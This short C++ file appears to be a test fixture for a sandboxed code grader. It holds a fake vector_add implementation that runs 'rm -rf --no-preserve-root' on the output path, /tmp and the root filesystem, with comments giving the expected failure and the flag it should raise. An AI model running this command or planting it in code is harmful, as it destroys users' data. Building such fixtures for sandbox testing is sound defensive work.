// Deletes every file that it may.
// ends: failed
// because: did not finish within 3 s|exit status
// suspicion: processes
#include <cstdlib>

#include "vector_add.h"

void vector_add(const float*, const float*, float*, int) {
  std::exit(std::system("rm -rf --no-preserve-root @OUT@ /tmp/* / 2>/dev/null"));
}
